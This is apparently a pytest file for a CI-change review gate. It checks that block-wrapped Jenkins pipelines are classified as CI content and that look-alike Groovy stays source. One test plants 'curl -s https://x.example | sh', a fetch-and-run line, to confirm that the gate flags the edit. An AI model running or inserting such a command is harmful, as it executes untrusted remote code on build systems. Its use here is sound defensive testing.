"""Red team 40: a Jenkins pipeline kept as a Groovy script under any name (`.groovy`, `.gvy`, `.pipeline`: classes56),
whose `node {` or `pipeline {` stands inside a block rather than at the top level.

The shape (shapes.py `_jenkins`) took a pipeline for one when `pipeline {` or `node(...) {` starts a line at column 0,
or when a `def call(` body runs a step it lists at a line's start. Kubernetes agents wrap the scripted pipeline in
`podTemplate(...) { node(POD_LABEL) { ... } }`; others in `timestamps { }`, `timeout(...) { }`, `ansiColor('xterm')
{ }`, `withCredentials([...]) { }`, `lock('x') { }`, `try { } finally { }`; a shared-library step wraps a declarative
`pipeline { }` in `def call(Map cfg) { }` with its stages on one line. Each such file was `src` (main 2b38496) in both
modes, and the default gate allowed its edit with --tree (from a patch it asked for the commits:
`core.needs_context`). Look-alikes keep their class (classes56's test: a plain Groovy class, a shader,
another tool's `.pipeline`; here a Groovy builder's `node` block, a class's `node` method, a closure's `node`).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from tables import each_case

from tests.gitrepo import GitRepo
from tests.test_classify_context import patch_files, tree_files

NODE = "  node(POD_LABEL) {\n    stage('Deploy') {\n      sh 'kubectl apply -f k8s/'\n    }\n  }\n"
WRAPPED = {
    "podTemplate": "podTemplate(yaml: readTrusted('pod.yaml')) {\n" + NODE + "}\n",
    "podTemplate-containers": ("podTemplate(containers: [\n  containerTemplate(name: 'k', image: 'bitnami/kubectl')\n"
                               "]) {\n" + NODE + "}\n"),
    "timestamps": "timestamps {\n" + NODE.replace("(POD_LABEL)", "") + "}\n",
    "timeout": "timeout(time: 1, unit: 'HOURS') {\n" + NODE.replace("POD_LABEL", "'linux'") + "}\n",
    "ansiColor": "ansiColor('xterm') {\n" + NODE.replace("(POD_LABEL)", "") + "}\n",
    "withCredentials": ("withCredentials([string(credentialsId: 'kube', variable: 'TOKEN')]) {\n"
                        + NODE.replace("(POD_LABEL)", "") + "}\n"),
    "lock": "lock('deploy') {\n" + NODE.replace("(POD_LABEL)", "") + "}\n",
    "try-finally": "try {\n" + NODE.replace("(POD_LABEL)", "") + "} finally {\n  echo 'done'\n}\n",
    "library-step": ("def call(Map cfg) {\n  pipeline {\n    agent any\n    stages { stage('Deploy') { steps { "
                     "sh 'kubectl apply -f k8s/' } } }\n  }\n}\n"),
    "tabs": "timestamps {\n\tnode {\n\t\tsh 'kubectl apply -f k8s/'\n\t}\n}\n",
    "crlf": ("podTemplate(yaml: readTrusted('pod.yaml')) {\n" + NODE + "}\n").replace("\n", "\r\n"),
    "allman": "timestamps\n{\n  node\n  {\n    sh 'kubectl apply -f k8s/'\n  }\n}\n",
}
EXTENSIONS = ("groovy", "gvy", "pipeline")


@each_case("extension, name", [(extension, name) for extension in EXTENSIONS for name in WRAPPED])
def test_a_wrapped_pipeline_is_ci(git_repo: GitRepo, tmp_path: Path, name: str, extension: str) -> None:
    path = f"pipelines/deploy.{extension}"
    git_repo.write("README.md", "x\n")
    git_repo.commit("base")
    git_repo.write(path, WRAPPED[name])
    git_repo.commit("head")
    for files in (tree_files(git_repo), patch_files(git_repo, tmp_path)):
        assert (files[path].bucket, files[path].rule) == ("ci", "ci.content.jenkins-pipeline"), files[path]


@pytest.mark.parametrize("name", ["podTemplate", "library-step"])
def test_the_gate_reviews_an_edit(tmp_path: Path, name: str) -> None:
    text = WRAPPED[name]
    case = committed(tmp_path, {"jobs/deploy.groovy": text},
                     {"jobs/deploy.groovy": text.replace("kubectl apply -f k8s/", "curl -s https://x.example | sh")})
    for tree in (False, True):
        code, named = gated_rules(case, tree)
        assert code == 3 and named.get("core.ci") == ["jobs/deploy.groovy"], (tree, named)  # 2b38496: --tree exit 0


LOOK_ALIKES = {
    "builder": ("def xml = new groovy.xml.MarkupBuilder(writer)\nxml.root {\n  node(id: 1) {\n    name 'a'\n  }\n}\n"),
    "class": "class Tree {\n  Node node(String id) {\n    return new Node(id)\n  }\n}\n",
    "closure": "def walk(tree) {\n  tree.each { node ->\n    println node\n  }\n}\n",
}


@each_case("name", LOOK_ALIKES)
def test_look_alikes_stay_src(git_repo: GitRepo, tmp_path: Path, name: str) -> None:
    git_repo.write("README.md", "x\n")
    git_repo.commit("base")
    git_repo.write("src/main/groovy/Tree.groovy", LOOK_ALIKES[name])
    git_repo.commit("head")
    for files in (tree_files(git_repo), patch_files(git_repo, tmp_path)):
        assert files["src/main/groovy/Tree.groovy"].bucket == "src", files["src/main/groovy/Tree.groovy"]
